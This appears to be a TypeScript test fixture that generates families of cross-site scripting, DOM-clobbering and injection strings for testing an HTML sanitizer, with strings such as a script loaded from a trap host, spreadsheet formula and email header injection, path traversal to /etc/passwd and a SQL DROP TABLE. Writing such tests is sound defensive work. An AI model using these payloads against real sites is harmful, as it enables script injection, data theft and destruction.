import { addresses, outside } from './attack-addresses-fixture'
import { handlers, readTwice } from './attack-markup-fixture'
import { all, IMG, J, SCRIPT, words } from './attack-parts-fixture'

// Attacks by family, after what is known of them (OWASP's filter evasion, the families of DOMPurify's tests, mutation by parsing
// twice), made here from their parts: what runs × where it stands × how it is written. Each calls `trip()` or asks the host TRAP.

export interface AttackCases {
  /** HTML of articles, by family */
  html: Record<string, string[]>
  /** words for every field that holds none but words */
  texts: string[]
}

export function attackCases(trap: string): AttackCases {
  const html = { ...familiesOf(trap), texts: TEXTS }
  return { html, texts: [...TEXTS, ...all(ENDS, [SCRIPT, IMG, `<svg onload=${J}>`], (end, run) => end + run)] }
}

function familiesOf(trap: string): Record<string, string[]> {
  return {
    scripts: SCRIPTS,
    handlers: handlers(),
    addresses: addresses(),
    readTwice: readTwice(),
    outside: outside(trap),
    names: names(),
  }
}

const SCRIPTS = [
  ...[SCRIPT, `<SCRIPT SRC=//TRAP/x.js></SCRIPT>`, `<script/x>${J}</script >`, `<scr<script>ipt>${J}</scr</script>ipt>`],
  ...[`<script>${J}`, `<script\n>${J}</script\n>`, `<<script>${J}//<</script>`, `<script type=module>${J}</script>`],
  ...[`<svg><script>${J}</script></svg>`, `<svg><script href="data:,${J}"/></svg>`, `<math><script>${J}</script></math>`],
  ...[`<IMG """>${SCRIPT}">`, `<img src="x" ONERROR\n=${J}>`, `<img/src=x/onerror=${J}>`, `<img src=x onerror\x0b=${J}>`],
  ...[
    `<script\x00>${J}</script>`,
    `<s\x00cript>${J}</script>`,
    `<\x00img src=x onerror=${J}>`,
    `\ufeff${SCRIPT}`,
    `<ſcript>${J}</ſcript>`,
  ],
  ...[`<template shadowrootmode=open>${SCRIPT}</template>`, `<object type=text/html data="data:text/html,${SCRIPT}"></object>`],
  ...[`<iframe srcdoc="${SCRIPT}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${J}&lt;/script&gt;"></iframe>`],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${J}">`,
    `<meta http-equiv="Content-Type" content="text/html; charset=utf-7">`,
  ],
  ...[`<base href="javascript:${J}//">`, `<link rel=import href="data:text/html,${SCRIPT}">`, `<xml id=x><x>${IMG}</x></xml>`],
  ...[
    `<style>*{background:url("javascript:${J}")}</style>`,
    `<p style="width:expression(${J})">文</p>`,
    `<p style="behavior:url(#x)">`,
  ],
  ...[`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${J}>文</p>`],
  ...[
    `<!--[if IE]>${SCRIPT}<![endif]-->`,
    `<!--><!---> ${IMG} -->`,
    `<![CDATA[${IMG}]]>`,
    `<?xml-stylesheet href="javascript:${J}"?>${IMG}`,
  ],
  ...[
    `</p title="--!>${IMG}">`,
    `<!-- --!>${IMG} -->`,
    `<!--${IMG}--!>${IMG}`,
    `<% ${IMG} %>`,
    `<!doctype x [<!ENTITY a "${SCRIPT}">]>&a;`,
  ],
  ...[
    `${'<div>'.repeat(10_000)}${IMG}`,
    `${'<b><i>'.repeat(3_000)}${SCRIPT}`,
    `${'<table><td>'.repeat(500)}${IMG}`,
    `<a ${'x '.repeat(5_000)}onclick=${J}>`,
  ],
  ...[`\u202e${IMG}\u202c`, `\u2028${SCRIPT}\u2029`, `<img src=x onerror=\u202e${J}>`],
]

/** Names by which an element stands in the place of something the page's scripts use. */
function names(): string[] {
  const taken =
    words(`document location body head cookie forms images links getElementById querySelector createElement addEventListener
    currentScript defaultView parentNode childNodes attributes innerHTML textContent submit action method nodeName firstChild ownerDocument
    __proto__ constructor prototype toString valueOf hasOwnProperty customElements trustedTypes navigator history self top parent opener
    main fn-ref-1 next wx search-form read-aloud settings`)
  const places = [
    ...[
      '<a id=@ name=@ href=/x>文</a>',
      '<img name=@ id=@ src=/icon.svg>',
      '<form name=@><input name=@ id=@></form>',
      '<iframe name=@></iframe>',
    ],
    ...[
      '<p id="@" class="@ article masthead">文</p>',
      '<a id=@><a id=@ name=x href=x>',
      '<object id=@ name=@></object>',
      '<details id=@ open>文</details>',
    ],
    ...[
      '<p is="@" slot="@" part="@" data-@="1" aria-@="1">文</p>',
      '<read-aloud @=x>文</read-aloud>',
      '<share-tools id=@>文</share-tools>',
    ],
  ]
  return all(places, taken, (place, name) => place.replaceAll('@', name))
}

const ENDS =
  words(`"> '> \`> </title> </script> </textarea> </style> </noscript> --> ]]> </a> </h1> "/> </option> </article> </mark> <!-- &quot;> %22%3E
  \\"> \\u0022> </p></div> <![CDATA[ }} *//* </xmp> </iframe>`)

/** Words that are markup, script, a formula, a header or an address wherever they are not taken as words. */
const TEXTS = [
  ...[
    SCRIPT,
    IMG,
    `"><svg/onload=${J}>`,
    `' onmouseover=${J} x='`,
    `" autofocus onfocus=${J} x="`,
    `\`onerror=${J}`,
    `javascript:${J}`,
    `</title>${SCRIPT}`,
  ],
  ...[
    `</script>${SCRIPT}`,
    `<!--<script>${J}`,
    `&lt;img src=x onerror=${J}&gt;`,
    `&amp;lt;script&amp;gt;${J}`,
    `%3Cscript%3E${J}`,
    `+ADw-script+AD4-${J}+ADw-/script+AD4-`,
  ],
  ...[
    `\\u003cscript\\u003e${J}`,
    `＜script＞${J}＜/script＞`,
    `{{constructor.constructor('${J}')()}}`,
    `\${${J}}`,
    `<%= ${J} %>`,
    `[[${J}]]`,
    `{% raw %}${IMG}`,
  ],
  ...[
    `#{${J}}`,
    `\u2028${J}\u2029`,
    `\u202e${IMG}`,
    `a\u0000<b>`,
    `]]>${IMG}`,
    `<![CDATA[${IMG}]]>`,
    `=HYPERLINK("http://x","y")`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
  ],
  ...[
    `+1+1`,
    `-2+3`,
    `\t=1+1`,
    `文\r\nBcc: x@evil.example`,
    `文\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    `../../etc/passwd`,
    `..\\..\\x`,
    `CON`,
    `a/b?c#d`,
  ],
  ...[
    `'; DROP TABLE "Article"; --`,
    `\\'; ${J}; //`,
    `<mark>${IMG}</mark>`,
    `__proto__`,
    `constructor`,
    `<a href=javascript:${J}>文</a>`,
    `on error resume next`,
  ],
]
